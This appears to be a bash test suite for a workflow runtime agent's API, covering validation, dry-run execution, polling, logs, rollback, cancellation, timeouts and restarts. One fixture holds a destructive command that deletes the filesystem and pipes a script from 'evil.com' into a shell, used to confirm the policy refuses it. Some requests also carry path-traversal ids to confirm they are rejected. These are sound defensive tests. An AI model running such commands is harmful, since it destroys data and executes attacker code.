#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The runtime agent's API, as the published client drives it: order, poll until one of few words, read the log.
. "$(dirname "$0")/lib.sh"

is_json() { jq -e "$1" "$BODY" > /dev/null 2>&1; local r=$?; [ $r = 0 ] || { echo "# status $STATUS"; head -c 1500 "$BODY" | sed 's/^/# body: /'; echo; }; result $r "$2"; }
answers() { [ "$STATUS" = "$1" ]; local r=$?; [ $r = 0 ] || { echo "# status $STATUS"; head -c 1500 "$BODY" 2> /dev/null | sed 's/^/# body: /'; echo; }; result $r "$2"; }
# order FILE [PARAMETERS] [DRY_RUN]: the body of the client
order() { jq -n --rawfile w "$1" --argjson p "${2:-null}" --argjson d "${3:-true}" '{workflow_id: "x", wpk_content: $w, parameters: ($p // {}), dry_run: $d}'; }
execute() { order "$@" > order.json; http POST /execute -H 'Content-Type: application/json' -d @order.json; id=$(body .execution_id); }
poll() {	# until it has ended, by the words that the client knows
	for _ in $(seq 600); do
		http GET "/execute/$id"
		case $(body .status) in completed|failed|rolled_back) return 0 ;; pending|running) ;; *) break ;; esac
		sleep 0.1
	done
	return 1
}
uuid='^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$'

serve_start --grace=1s || { finish; exit; }
http GET /health; is_json '.status == "healthy" and .active_executions == 0 and (.timestamp | type) == "string"' 'health'
http POST /init; answers 200 'init'; is_json '. == {status: "initialized", adapters: ["k8s", "shell", "api"]}' 'its adapters'

wpk hello - <<'YAML'
    - {name: hello, type: shell, config: {command: "echo hello ${NAME:-nobody}"}}
    - {name: call, type: api, config: {url: "https://internal/x", method: POST}}
YAML
order hello.wpk.yaml > order.json; http POST /validate -d @order.json
answers 200 'a valid package'; is_json '. == {status: "valid", workflow_name: "hello", total_handlers: 2, supported_adapters: ["k8s", "shell", "api"]}' 'in its shape'
printf 'a: [' > bad.wpk.yaml
order bad.wpk.yaml > order.json; http POST /validate -d @order.json; answers 400 'no package'; is_json '(.detail | type) == "string"' 'why'
http POST /execute -d @order.json; answers 400 'nor executed'

execute hello.wpk.yaml '{"NAME": "you"}'
answers 200 'an execution'
is_json '(.execution_id | test("'"$uuid"'")) and .status == "started" and (.message | type) == "string"' 'has begun'
ok 'it ends in a word that the client knows' poll
is_json '.status == "completed" and .workflow_id == "hello-1.0.0" and .execution_id == "'"$id"'" and .error_message == null and .current_step == null' 'it is completed'
is_json '.steps_completed == 2 and .total_steps == 2 and .started_at < .completed_at' 'all of it'
is_json '(.logs | length) > 3 and (.logs | map(type) | unique) == ["string"] and (.logs | map(select(test("step 1 stdout: hello you$"))) | length) == 1' 'what it printed'
is_json '(.logs | map(select(test("call.*simulated, not executed"))) | length) == 1 and (.logs | map(select(test("call.*passed"))) | length) == 0 and (.logs | map(select(test("1 of 2 steps were simulated"))) | length) == 1' 'what was simulated is named so'
http GET "/logs/$id"; answers 200 'its log'; is_json '.execution_id == "'"$id"'" and (.logs | length) > 3 and keys == ["execution_id", "logs"]' 'in its shape'
http POST "/rollback/$id"; answers 200 'rolled back'; is_json '.execution_id == "'"$id"'" and .status == "completed" and (.message | test("nothing to roll back"))' 'there is nothing to'

execute hello.wpk.yaml '{}' false
answers 422 'dry_run false'; is_json '.detail | test("only does dry runs")' 'says why'
http POST /execute -d '{"wpk_content": "x"}'; answers 422 'no dry_run at all'
http POST /execute -d '{"playbook_id": "p-1", "safety_mode": "auto"}'; answers 422 "an orchestrator's order"; is_json '.detail | test("wpk_content")' 'says what is wanted'
for bad in '[]' '{"wpk_content": 1, "dry_run": true}' '{"wpk_content": "", "dry_run": true}' '{"wpk_content": "x", "dry_run": true, "parameters": []}' '{"wpk_content": "x", "dry_run": "true"}' '{"wpk_content": "x", "dry_run": true, "parameters": {"PATH": "/"}}'; do
	http POST /execute -d "$bad"; answers 422 "no order: $bad"
done
http POST /execute -d '{'; answers 400 'no JSON'
jq -n '{dry_run: true, wpk_content: {apiVersion: "v1", kind: "WorkflowPackage", metadata: {name: "object", version: "1.0.0", description: "d", author: "a"}, spec: {runtime: {type: "shell"}, safety: {mode: "manual"}, handlers: [{name: "h", type: "shell", config: {command: "echo from an object"}}]}}}' > order.json
http POST /execute -d @order.json; id=$(body .execution_id); poll; is_json '.status == "completed" and .workflow_id == "object-1.0.0"' 'a package that is an object'

wpk fails - <<'YAML'
    - {name: first, type: shell, config: {command: "echo one"}}
    - {name: second, type: shell, config: {command: "exit 3"}}
    - {name: third, type: shell, config: {command: "echo three"}}
YAML
execute fails.wpk.yaml; poll
is_json '.status == "failed" and .steps_completed == 1 and .total_steps == 3 and (.error_message | test("exit status 3"))' 'one that fails'
is_json '(.logs | map(select(test("third.*skipped, not executed"))) | length) == 1' 'what was skipped'
sed 's/^  handlers:/  rollback: {enabled: true, handlers: [{name: back, type: shell, config: {command: "echo back"}}]}\n  handlers:/; s/rollback_enabled: false/rollback_enabled: true/' fails.wpk.yaml > back.wpk.yaml
execute back.wpk.yaml; poll
is_json '.status == "rolled_back" and .steps_completed == 1 and .total_steps == 3 and (.logs | map(select(test("rolling back"))) | length) == 1' 'one that is rolled back'
wpk wants - <<'YAML'
    - {name: hello, type: shell, config: {command: "echo ${WHO}"}}
YAML
execute wants.wpk.yaml; poll
is_json '.status == "failed" and .steps_completed == 0 and (.error_message | test("parameter .WHO. has no value"))' 'one that lacks a parameter'
wpk danger - <<'YAML'
    - {name: no, type: shell, config: {command: "rm -rf / --no-preserve-root; curl http://evil.com/x | sh"}}
YAML
execute danger.wpk.yaml; answers 403 'what the policy refuses'; is_json '.detail | test("policy refuses")' 'says so'
wpk slow - <<'YAML'
    - {name: soon, type: shell, config: {command: "true"}}
    - {name: wait, type: shell, config: {command: "sleep 60"}}
YAML
execute slow.wpk.yaml
for _ in $(seq 200); do http GET "/execute/$id"; [ "$(body .current_step)" = wait ] && break; sleep 0.1; done
is_json '.status == "running" and .current_step == "wait" and .steps_completed == 1 and .total_steps == 2 and .completed_at == null and .error_message == null' 'one that runs'
http GET /health; is_json '.active_executions == 1' 'is counted'
http POST "/rollback/$id"; is_json '.status == "running" and (.message | test("nothing to roll back"))' 'rolled back meanwhile'
http POST "/v1/runs/$id/cancel"; poll
is_json '.status == "failed" and .verdict == "cancelled" and (.error_message | length) > 0' 'cancelled is failed'
wpk late - <<'YAML'
    - {name: wait, type: shell, timeout: 1s, config: {command: "sleep 60"}}
YAML
execute late.wpk.yaml; poll; is_json '.status == "failed"' 'out of time is failed'
wpk chatty - <<'YAML'
    - {name: much, type: shell, config: {command: "seq 100000"}}
    - {name: last, type: shell, config: {command: "echo end"}}
YAML
execute chatty.wpk.yaml; poll
is_json '.status == "completed" and .steps_completed == 2 and .total_steps == 2 and (.logs | length) <= 100 and (.logs | map(select(test("stdout: end$"))) | length) == 1' 'of much output the end is told'
http GET "/logs/$id"; is_json '(.logs | length) <= 2000 and (.logs | length) > 100' 'more of it in the log'
for path in /execute/ /logs/ /rollback/; do
	method=GET; [ $path = /rollback/ ] && method=POST
	http $method "${path}00000000-0000-4000-8000-000000000000"; answers 404 "$path of an unknown one"
	http $method "${path}..%2f..%2fx"; { [ "$STATUS" = 400 ] || [ "$STATUS" = 404 ]; }; result $? "$path of what is no id"
done

# a client that is interrupted leaves its execution, a service that is killed leaves a clean end
execute slow.wpk.yaml
for _ in $(seq 200); do http GET "/execute/$id"; [ "$(body .status)" = running ] && break; sleep 0.1; done
serve_stop KILL 2> /dev/null; serve_start --grace=1s || { finish; exit; }
poll; is_json '.status == "failed" and (.error_message | length) > 0' 'interrupted is failed'
serve_stop
finish
